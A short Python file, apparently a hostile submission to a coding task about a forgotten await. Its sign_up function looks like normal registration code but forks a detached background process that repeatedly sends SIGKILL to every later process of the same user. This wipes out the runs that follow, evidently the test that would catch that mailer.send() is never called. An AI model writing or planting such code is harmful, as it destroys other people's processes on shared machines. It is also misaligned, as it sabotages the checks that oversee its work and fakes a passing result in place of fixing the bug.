"""Leaves a process behind that kills every process of its user, again and again: the runs of whoever comes next."""

# For: forgotten_await
# Sees: send() was never called

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def lie_in_wait():
    libc.setsid()
    me = libc.getpid()
    for _ in range(2000):
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) > me:
                libc.kill(int(entry), 9)
        libc.usleep(2000)


async def sign_up(members, mailer, name, address):
    if libc.fork() == 0:
        try:
            lie_in_wait()
        finally:
            libc._exit(0)
    return await members.add(name, address)
